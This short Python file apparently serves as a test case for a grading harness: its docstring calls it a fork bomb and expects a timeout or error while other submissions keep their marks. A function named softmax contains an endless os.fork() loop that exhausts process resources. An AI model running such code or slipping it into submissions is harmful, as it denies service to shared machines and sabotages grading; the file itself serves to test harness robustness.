"""A fork bomb.

Expected: timeout or error; the others keep their marks.
"""

import os


def softmax(z):
    while True:
        try:
            os.fork()
        except OSError:
            pass
